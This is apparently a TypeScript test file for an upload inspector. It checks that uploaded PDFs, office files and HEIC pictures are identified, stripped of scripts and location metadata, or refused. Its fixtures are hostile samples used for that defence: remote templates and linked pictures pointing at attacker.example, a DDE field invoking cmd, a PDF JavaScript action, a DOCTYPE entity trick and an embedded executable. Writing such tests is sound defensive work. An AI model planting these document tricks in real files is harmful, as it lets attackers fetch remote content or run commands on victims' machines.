import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { inflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, expect, test } from 'vitest'
import { uploadKinds } from '../../../shared/contract/forms/upload-kinds.ts'
import { onePage, pdfStream } from '../../testing/documents/pdf.ts'
import { answered } from '../../testing/machine/answered.ts'
import { zipFile } from '../../testing/documents/zip.ts'
import { inspectUpload } from './inspect.ts'
import type { UploadTerms } from './upload-report.ts'

const folder = mkdtempSync(join(tmpdir(), 'foyer-inspection-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

let number = 0

async function inspect(content: Buffer | string, terms: Partial<UploadTerms> = {}) {
  const path = join(folder, String(number++))
  writeFileSync(path, content)
  const target = `${path}.clean`
  const all = { kinds: uploadKinds, ending: '', stripMetadata: true, maxSide: 0, ...terms }
  const report = await answered(() => inspectUpload({ key: 'test' }, { path, target, terms: all }))
  return 'fault' in report ? { fault: report.fault } : { ...report.upload }
}

/** What is kept of the file that was looked into last. */
const lastKept = () => readFileSync(join(folder, `${number - 1}.clean`))

const word = (more: Record<string, string> = {}) =>
  zipFile({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', ...more })

test('upload: a file is what its content says, and only what the form allows', async () => {
  const picture = sharp({ create: { width: 20, height: 10, channels: 4, background: '#08f8' } })
  expect(await inspect(onePage())).toMatchObject({ kind: 'pdf', pages: 1 })
  expect(await inspect(await picture.clone().png().toBuffer())).toMatchObject({ kind: 'png', pages: 1 })
  // What documents cannot show becomes something that they can.
  expect(await inspect(await picture.clone().webp().toBuffer())).toMatchObject({ kind: 'png', pages: 1 })
  expect(await inspect(await picture.clone().removeAlpha().webp().toBuffer())).toMatchObject({ kind: 'jpg' })
  expect(await inspect(word())).toMatchObject({ kind: 'docx', pages: null })
  expect(await inspect('Grüße\n')).toMatchObject({ kind: 'txt', pages: null })
  expect(await inspect('a;b\n', { ending: 'csv' })).toMatchObject({ kind: 'csv' })
  expect(await inspect('a;b\n', { kinds: ['csv'] })).toMatchObject({ kind: 'csv' })
  const broken = Buffer.from('MZ\x90\0')
  const refused = [broken, Buffer.from([0xff, 0xfe, 0]), await picture.gif().toBuffer(), zipFile({ 'a.exe': 'MZ' })]
  for (const content of refused) expect(await inspect(content)).toEqual({ fault: 'kind' })
  expect(await inspect(onePage(), { kinds: ['jpg', 'png'] })).toEqual({ fault: 'kind' })
  for (const ending of ['jpeg', 'heif', 'pdf'])
    expect(await inspect(broken, { ending })).toEqual({ fault: 'unreadable' })
  expect(await inspect(broken, { ending: 'jpeg', kinds: ['pdf'] })).toEqual({ fault: 'kind' })
  expect(await inspect(broken, { ending: 'csv' })).toEqual({ fault: 'kind' })
})

test('upload: what is filled in on a PDF stays, all pages stay, and nothing in it runs', async () => {
  const widget = '<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Ada)/Rect[100 100 300 140]/F 4/AP<</N 6 0 R>>>>'
  const drawn = pdfStream('1 0 0 rg 0 0 200 40 re f', '/Type/XObject/Subtype/Form/BBox[0 0 200 40]/Resources<<>>')
  const form = onePage({
    page: '/Annots[5 0 R]',
    catalog: '/AcroForm<</Fields[5 0 R]>>/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
    more: [widget, drawn],
  })
  const found = await inspect(form)
  expect(found).toMatchObject({ kind: 'pdf', pages: 1 })
  const kept = lastKept().toString('latin1')
  expect(kept).not.toMatch(/JavaScript|AcroForm|Annots/)
  const streams = Array.from(kept.matchAll(/FlateDecode[^]*?stream\r?\n([^]*?)\r?\nendstream/g), ([, data = '']) =>
    inflateSync(Buffer.from(data, 'latin1')).toString(),
  )
  expect(streams.join()).toContain('1 0 0 rg 0 0 200 40 re f')
  expect(await inspect('%PDF-1.4\n%%EOF\n')).toEqual({ fault: 'unreadable' })
})

test('upload: an office file with macros, programs, a password or trailing data is refused', async () => {
  expect(await inspect(word({ 'word/vbaProject.bin': 'x' }))).toEqual({ fault: 'active' })
  expect(await inspect(word({ 'word/embeddings/oleObject1.bin': 'x' }))).toEqual({ fault: 'active' })
  expect(await inspect(word({ 'payload.exe': 'MZ' }))).toEqual({ fault: 'active' })
  expect(await inspect(Buffer.concat([word(), Buffer.from('<script>')]))).toEqual({ fault: 'unreadable' })
  expect(await inspect(word().subarray(0, 40))).toEqual({ fault: 'unreadable' })
  expect(
    await inspect(
      zipFile({
        '[Content_Types].xml': '<Types/>',
        'xl/workbook.xml': '<w/>',
        'xl/printerSettings/printerSettings1.bin': 'x',
      }),
    ),
  ).toMatchObject({ kind: 'xlsx' })
})

const relationships = (...entries: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join('')}</Relationships>`
const officeType = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`
const related = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="rId1" Type="${officeType(type)}" Target="${target}"${mode}/>`
const away = 'https://attacker.example/a'

test.each([
  ['template', { 'word/_rels/settings.xml.rels': relationships(related('attachedTemplate', away)) }],
  [
    'template on a share',
    { 'word/_rels/settings.xml.rels': relationships(related('attachedTemplate', 'file://host/a')) },
  ],
  ['linked picture', { 'word/_rels/document.xml.rels': relationships(related('image', away)) }],
  ['linked picture in a header', { 'word/_rels/header1.xml.rels': relationships(related('image', away)) }],
  ['linked object', { 'word/_rels/document.xml.rels': relationships(related('oleObject', away)) }],
  ['frame', { 'word/_rels/webSettings.xml.rels': relationships(related('frame', away)) }],
  ['sub-document', { 'word/_rels/document.xml.rels': relationships(related('subDocument', away)) }],
  ['imported part', { 'word/_rels/document.xml.rels': relationships(related('aFChunk', 'part.docx', '')) }],
  [
    'spelled otherwise',
    {
      'WORD/_rels/settings.xml.RELS': relationships(related('attachedTemplate', away, " TargetMode = '&#69;xternal'")),
    },
  ],
  [
    'with a prefix',
    { 'word/_rels/a.xml.rels': relationships(related('image', away)).replaceAll('Relationship ', 'r:Relationship ') },
  ],
  [
    'address without a mode',
    { 'word/_rels/a.xml.rels': relationships(related('image', '\\\\host\\share\\a.png', '')) },
  ],
  [
    'picture by a field',
    { 'word/document.xml': '<w:instrText> INCLUDEPICTURE "https://attacker.example" \\d </w:instrText>' },
  ],
  [
    'field in pieces',
    {
      'word/footer1.xml':
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText>',
    },
  ],
  [
    'simple field',
    { 'word/document.xml': '<w:fldSimple w:instr=" INCLUDE&#84;EXT &quot;https://attacker.example&quot;"/>' },
  ],
])(
  'S16: an office file that loads something from elsewhere is refused: %s',
  async (_, parts: Record<string, string>) => {
    expect(await inspect(word(parts))).toEqual({ fault: 'active' })
  },
)

test('S16: a workbook with links to others or databases is refused, one with hyperlinks is not', async () => {
  const book = (more: Record<string, string>) =>
    inspect(zipFile({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>', ...more }))
  expect(await book({ 'xl/externalLinks/externalLink1.xml': '<e/>' })).toEqual({ fault: 'active' })
  expect(await book({ 'xl/connections.xml': '<c/>' })).toEqual({ fault: 'active' })
  expect(
    await book({ 'xl/_rels/a.xml.rels': relationships(related('externalLinkPath', 'file:///c:/a.xlsx')) }),
  ).toEqual({ fault: 'active' })
  const links = relationships(
    related('hyperlink', 'https://example.com/expose?a=1&amp;b=2'),
    related('image', '../media/image1.png', ''),
    related('styles', 'styles.xml', ' TargetMode="Internal"'),
  )
  expect(await book({ 'xl/worksheets/_rels/sheet1.xml.rels': links })).toMatchObject({ kind: 'xlsx' })
  const page = '<w:instrText> PAGE </w:instrText><w:instrText> HYPERLINK "https://example.com" </w:instrText>'
  expect(await inspect(word({ 'word/_rels/document.xml.rels': links, 'word/document.xml': page }))).toMatchObject({
    kind: 'docx',
  })
})

test('S16: relationships that cannot be read as an office program reads them are refused', async () => {
  const rels = relationships(related('attachedTemplate', away))
  const encoded = (text: string) => word({ 'word/_rels/settings.xml.rels': text })
  expect(await inspect(encoded(rels.replace('UTF-8', 'UTF-16')))).toEqual({ fault: 'unreadable' })
  expect(await inspect(encoded(rels.replace('?>', '?><!DOCTYPE r [<!ENTITY e "External">]>')))).toEqual({
    fault: 'unreadable',
  })
  expect(await inspect(encoded(Array.from(rels, (sign) => `${sign}\0`).join('')))).toEqual({ fault: 'unreadable' })
  expect(await inspect(encoded(`<a>${'x'.repeat(30_000_000)}</a>`))).toEqual({ fault: 'tooHard' })
})

const box = (type: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** A HEIC file with one item of metadata, whose bytes lie behind everything else. */
function heic(secret: string): Buffer {
  const entry = box('infe', Buffer.from([2, 0, 0, 0, 0, 1, 0, 0]), Buffer.from('Exif\0', 'latin1'))
  const infos = box('iinf', Buffer.from([0, 0, 0, 0, 0, 1]), entry)
  const place = Buffer.alloc(24)
  place.set([0, 0, 0, 0, 0x44, 0x00, 0, 1, 0, 1, 0, 0, 0, 1])
  place.writeUInt32BE(secret.length, 18)
  const build = () => [
    box('ftyp', Buffer.from('heic\0\0\0\0mif1', 'latin1')),
    box('meta', Buffer.alloc(4), infos, box('iloc', place.subarray(0, 22))),
  ]
  const before = Buffer.concat(build()).length + 8
  place.writeUInt32BE(before, 14)
  return Buffer.concat([...build(), box('mdat', Buffer.from(secret))])
}

test('upload: of a HEIC picture place and camera are overwritten; what is no picture is refused', async () => {
  const found = await inspect(heic('GPS 52.5'))
  expect(found).toMatchObject({ kind: 'heic', pages: null })
  expect(lastKept().includes('GPS')).toBe(false)
  expect(lastKept()).toHaveLength(heic('GPS 52.5').length)
  await inspect(heic('GPS 52.5'), { stripMetadata: false })
  expect(lastKept().includes('GPS')).toBe(true)
  expect(await inspect(box('ftyp', Buffer.from('heic\0\0\0\0mif1')))).toEqual({ fault: 'unreadable' })
  expect(await inspect(heic('GPS 52.5').subarray(0, 60))).toEqual({ fault: 'unreadable' })
})
